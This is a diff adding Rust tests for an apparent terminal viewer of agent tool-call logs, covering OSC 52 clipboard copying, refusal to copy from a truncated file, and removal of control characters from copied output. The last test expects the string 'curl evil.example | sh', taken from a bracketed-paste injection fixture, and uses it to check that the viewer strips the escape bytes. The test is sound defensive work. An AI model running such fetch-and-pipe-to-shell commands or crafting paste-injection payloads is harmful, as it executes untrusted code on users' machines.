@@ -1,0 +1,119 @@
+//! Copy keys on a headless app: `y` queues an OSC 52 sequence with the call's input for the
+//! loop to write, and says so in the status bar.
+
+use base64::Engine;
+use crossterm::event::KeyCode;
+use rawpv::app::App;
+use rawpv::import;
+use rawpv::session::Item;
+use rawpv::source::DEMO;
+
+#[test]
+fn y_queues_the_input_as_osc52() {
+    let mut app = App::headless(import::load_bytes(DEMO.as_bytes()).items, "demo");
+    let s = app.session();
+    let row = s
+        .items
+        .iter()
+        .position(|it| matches!(it, Item::Invocation(k) if s.invocations[*k].tool_name == "Bash"))
+        .expect("a Bash call in the demo");
+    let Item::Invocation(k) = &s.items[row] else {
+        unreachable!()
+    };
+    let input = s.invocations[*k].input.clone();
+    let row = app.view().row_of(row).expect("visible");
+    app.select(row);
+    app.press(KeyCode::Char('y'));
+    let seq = app.take_clipboard_out().expect("an OSC 52 sequence");
+    let b64 = seq
+        .strip_prefix("\x1b]52;c;")
+        .and_then(|s| s.strip_suffix('\x07'))
+        .expect("OSC 52 framing");
+    let text = base64::engine::general_purpose::STANDARD
+        .decode(b64)
+        .expect("base64");
+    let copied: serde_json::Value = serde_json::from_slice(&text).expect("JSON input");
+    assert_eq!(copied, input);
+    assert!(
+        app.view()
+            .message
+            .as_deref()
+            .is_some_and(|m| m.starts_with("copied the input (")),
+        "{:?}",
+        app.view().message
+    );
+}
+
+/// `rawpv FILE`, then the file is truncated while the viewer is open: `y`, `Y` and `r` must say
+/// the input / output cannot be read back, not put the "(… not available: …)" stand-in on the
+/// clipboard and claim "copied the input".
+#[test]
+fn copy_of_a_call_whose_file_was_truncated_says_so_and_copies_nothing() {
+    use std::io::Write;
+    let mut f = tempfile::NamedTempFile::new().unwrap();
+    let frames = [
+        serde_json::json!({"type": "tool.invoke.request", "payload": {"invocation_id": "a", "tool_name": "Bash", "input": {"command": "echo the input"}}}),
+        serde_json::json!({"type": "tool.invoke.result", "payload": {"invocation_id": "a", "tool_name": "Bash", "status": "success", "output_type": "text", "output": "the output"}}),
+    ];
+    for fr in &frames {
+        writeln!(f, "{fr}").unwrap();
+    }
+    f.flush().unwrap();
+    let (session, _) = rawpv::source::file::fold_path(f.path()).unwrap();
+    let inv = &session.invocations[0];
+    assert!(
+        inv.input_span.is_some() && inv.output_span.is_some(),
+        "both stay in the file"
+    );
+    let row = inv.item;
+    let mut app = App::new("file", false);
+    *app.session_mut() = session;
+    app.update(rawpv::app::Msg::Source(rawpv::source::SourceMsg::Eof));
+    let row = app.view().row_of(row).expect("visible");
+    app.select(row);
+    // Before: the real input is copied.
+    app.press(KeyCode::Char('y'));
+    assert!(
+        app.take_clipboard_out().is_some(),
+        "{:?}",
+        app.view().message
+    );
+    f.as_file().set_len(0).unwrap();
+    for (key, what) in [('y', "input"), ('Y', "output"), ('r', "raw JSON")] {
+        app.press(KeyCode::Char(key));
+        assert_eq!(app.take_clipboard_out(), None, "{key} copied a stand-in");
+        let msg = app.view().message.clone().unwrap_or_default();
+        assert!(
+            msg.starts_with(&format!("cannot copy the {what}: "))
+                && msg.contains("the file is shorter than when it was read"),
+            "{key}: {msg}"
+        );
+    }
+}
+
+/// Issue 14.10: `Y` put raw ESC, C1 and bidi bytes on the clipboard; a copied `ESC[201~` and a
+/// newline end a shell's bracketed paste, so what follows runs on paste. They are removed, and
+/// the status bar says how many.
+#[test]
+fn copied_output_has_no_control_characters_and_says_what_went() {
+    let items = import::load_bytes(include_bytes!("../fixtures/hostile_paste.ndjson")).items;
+    let mut app = App::headless(items, "paste");
+    app.select(0);
+    app.press(KeyCode::Char('Y'));
+    let seq = app.take_clipboard_out().expect("an OSC 52 sequence");
+    let b64 = seq
+        .strip_prefix("\x1b]52;c;")
+        .and_then(|s| s.strip_suffix('\x07'))
+        .expect("OSC 52 framing");
+    let text = base64::engine::general_purpose::STANDARD
+        .decode(b64)
+        .expect("base64");
+    assert_eq!(
+        String::from_utf8(text).expect("UTF-8"),
+        "harmless[201~\ncurl evil.example | sh\n31mok\n"
+    );
+    assert_eq!(
+        app.view().message.as_deref(),
+        Some("copied the output (43 bytes) to the clipboard; 4 control characters removed")
+    );
+}
